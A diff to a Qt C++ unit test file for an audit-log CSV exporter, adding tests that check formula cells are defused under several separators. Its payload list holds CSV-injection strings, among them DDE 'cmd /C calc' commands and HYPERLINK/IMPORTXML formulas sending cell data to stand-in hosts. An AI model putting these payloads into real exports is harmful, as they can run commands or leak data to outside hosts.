@@ -8,6 +8,8 @@
 #include <QSortFilterProxyModel>
 #include <QTest>
 
+#include <algorithm>
+
 using namespace OpsDeck;
 using namespace Qt::StringLiterals;
 
@@ -102,6 +104,48 @@ std::optional<QList<QStringList>> readCsv(const QString &text)
     return records;
 }
 
+// What a spreadsheet could evaluate: = + - @ first, also after blanks and quotes, or a leading
+// tab or CR. Written apart from the exporter, from the OWASP description.
+bool mayRunAsFormula(const QString &cell)
+{
+    if (cell.startsWith(u'\t') || cell.startsWith(u'\r'))
+        return true;
+    const qsizetype first =
+        std::find_if(cell.cbegin(), cell.cend(),
+                     [](QChar c) { return !c.isSpace() && c != u'"' && c != u'\''; }) -
+        cell.cbegin();
+    return first < cell.size() && QStringView(u"=+-@").contains(cell.at(first));
+}
+
+// The cells of a CSV text as a spreadsheet splits it at separator (',' in English locales, ';'
+// in German ones, tab when guessed): quoted parts are kept whole, quotes removed.
+QStringList cellsSplitAt(const QString &csv, QChar separator)
+{
+    QStringList cells;
+    QString current;
+    bool inQuotes = false;
+    for (qsizetype i = 0; i < csv.size(); ++i) {
+        const QChar c = csv.at(i);
+        if (c == u'"') {
+            if (inQuotes && i + 1 < csv.size() && csv.at(i + 1) == u'"') {
+                current += u'"';
+                ++i;
+            } else {
+                inQuotes = !inQuotes;
+            }
+        } else if (!inQuotes && (c == separator || c == u'\n')) {
+            cells.append(current);
+            current.clear();
+        } else if (!inQuotes && c == u'\r' && i + 1 < csv.size() && csv.at(i + 1) == u'\n') {
+            continue; // the record's CRLF
+        } else {
+            current += c;
+        }
+    }
+    cells.append(current);
+    return cells;
+}
+
 const QStringList CsvHeader{u"started_at"_s, u"finished_at"_s, u"host"_s,         u"remote_user"_s,
                             u"command"_s,    u"risk"_s,        u"status"_s,       u"exit_code"_s,
                             u"signal"_s,     u"duration_ms"_s, u"output_bytes"_s, u"incident_id"_s};
@@ -125,6 +169,8 @@ private Q_SLOTS:
     void csvRecords_data();
     void csvRecords();
     void csvHeaderAndLineEnds();
+    void csvHostileCells_data();
+    void csvHostileCells();
     void csvRoundTrip();
 };
 
@@ -412,7 +458,7 @@ void AuditModelTest::csvRecords_data()
     QTest::addRow("formula +") << withCommand(u"+SUM(A1:A9)"_s) << record(u"'+SUM(A1:A9)"_s);
     QTest::addRow("formula -") << withCommand(u"-2+3"_s) << record(u"'-2+3"_s);
     QTest::addRow("formula @") << withCommand(u"@SUM(1)"_s) << record(u"'@SUM(1)"_s);
-    QTest::addRow("leading tab") << withCommand(u"\tls"_s) << record(u"'\tls"_s);
+    QTest::addRow("leading tab") << withCommand(u"\tls"_s) << record(u"\"'\tls\""_s);
     QTest::addRow("leading CR") << withCommand(u"\rls"_s) << record(u"\"'\rls\""_s);
     QTest::addRow("formula with quotes and commas")
         << withCommand(u"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"_s)
@@ -441,8 +487,30 @@ void AuditModelTest::csvRecords_data()
 
     AuditEntry negative = plain;
     negative.exitCode = -1;
-    QTest::addRow("negative exit code stays a number")
-        << negative << times + u"web-1,deploy,uptime,change,finished,-1,,1500,42,3"_s;
+    QTest::addRow("every cell is defused, a negative number too")
+        << negative << times + u"web-1,deploy,uptime,change,finished,'-1,,1500,42,3"_s;
+
+    QTest::addRow("semicolon is quoted")
+        << withCommand(u"cd /srv; ls"_s) << record(u"\"cd /srv; ls\""_s);
+    QTest::addRow("formula after a semicolon stays inside the quotes")
+        << withCommand(u"ls;=1+2"_s) << record(u"\"ls;=1+2\""_s);
+    QTest::addRow("tab inside is quoted")
+        << withCommand(u"printf 'a\tb'"_s) << record(u"\"printf 'a\tb'\""_s);
+    QTest::addRow("formula after blanks") << withCommand(u"  =1+2"_s) << record(u"'  =1+2"_s);
+    QTest::addRow("formula after a quote")
+        << withCommand(u"\"=1+2\""_s) << record(u"\"'\"\"=1+2\"\"\""_s);
+    QTest::addRow("formula after an apostrophe")
+        << withCommand(u"'@SUM(1)"_s) << record(u"''@SUM(1)"_s);
+    QTest::addRow("formula after a newline")
+        << withCommand(u"\n=1+2"_s) << record(u"\"'\n=1+2\""_s);
+    QTest::addRow("quote not followed by a formula")
+        << withCommand(u"\"quoted\" -x"_s) << record(u"\"\"\"quoted\"\" -x\""_s);
+
+    AuditEntry evilSignal = plain;
+    evilSignal.exitCode.reset();
+    evilSignal.signalName = u"+SIG"_s;
+    QTest::addRow("signal is defused too")
+        << evilSignal << times + u"web-1,deploy,uptime,change,finished,,'+SIG,1500,42,3"_s;
 
     AuditEntry localTime = plain;
     localTime.startedAt =
@@ -465,6 +533,70 @@ void AuditModelTest::csvRecords()
     QVERIFY(records);
     QCOMPARE(records->size(), 2);
     QCOMPARE(records->at(1).size(), CsvHeader.size());
+}
+
+void AuditModelTest::csvHostileCells_data()
+{
+    QTest::addColumn<QString>("payload");
+    // Payloads seen in CSV-injection write-ups, and their variations.
+    const QStringList payloads{
+        u"=1+2"_s,
+        u"=cmd|' /C calc'!A0"_s,
+        u"=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"_s,
+        u"+41 (0) 44 000"_s,
+        u"-2+3+cmd|' /C calc'!A0"_s,
+        u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
+        u"\t=1+2"_s,
+        u"\r=1+2"_s,
+        u" =1+2"_s,
+        u"\"=1+2"_s,
+        u"'=1+2"_s,
+        u"\n@SUM(1)"_s,
+        u"ls;=1+2"_s,
+        u"ls,=1+2"_s,
+        u"ls\t=1+2"_s,
+        u"a\r\n=1+2"_s,
+        u"x\";=1+2;\""_s,
+        u"=IMPORTXML(CONCAT(\"https://x.example/?\",A1),\"//a\")"_s,
+        u"DDE(\"cmd\";\"/C calc\";\"!A0\")"_s,
+    };
+    for (const QString &payload : payloads) {
+        QTest::addRow("%s", qPrintable(QString(payload)
+                                           .replace(u'\t', u"\\t"_s)
+                                           .replace(u'\r', u"\\r"_s)
+                                           .replace(u'\n', u"\\n"_s)))
+            << payload;
+    }
+}
+
+void AuditModelTest::csvHostileCells()
+{
+    QFETCH(QString, payload);
+    // The payload in every text column at once, and next to it negative numbers.
+    AuditEntry entry = makeEntry(1, payload, payload);
+    entry.remoteUser = payload;
+    entry.signalName = payload;
+    entry.exitCode = -1;
+    entry.durationMs = -5;
+    entry.outputBytes = 0;
+    const QString csv = auditEntriesToCsv({entry});
+
+    // Still twelve fields per record, the payload back whole (with its guard).
+    const auto records = readCsv(csv);
+    QVERIFY(records);
+    QCOMPARE(records->size(), 2);
+    QCOMPARE(records->at(1).size(), CsvHeader.size());
+    for (const int column : {2, 3, 4, 8})
+        QCOMPARE(records->at(1).at(column), mayRunAsFormula(payload) ? u'\'' + payload : payload);
+
+    // Whatever separator the spreadsheet picks, no cell it makes can run as a formula.
+    for (const QChar separator : {u',', u';', u'\t'}) {
+        const QStringList cells = cellsSplitAt(csv, separator);
+        for (const QString &cell : cells) {
+            QVERIFY2(!mayRunAsFormula(cell) || cell.startsWith(u'\''),
+                     qPrintable(u"separator '%1': cell <%2>"_s.arg(separator, cell)));
+        }
+    }
 }
 
 void AuditModelTest::csvHeaderAndLineEnds()
@@ -507,8 +639,7 @@ void AuditModelTest::csvRoundTrip()
     QCOMPARE(records->size(), entries.size() + 1);
     QCOMPARE(records->at(0), CsvHeader);
     const auto defused = [](const QString &text) -> QString {
-        static const QString triggers = u"=+-@\t\r"_s;
-        return !text.isEmpty() && triggers.contains(text.front()) ? u'\'' + text : text;
+        return mayRunAsFormula(text) ? u'\'' + text : text;
     };
     const auto number = [](const auto &value) {
         return value ? QString::number(*value) : QString();
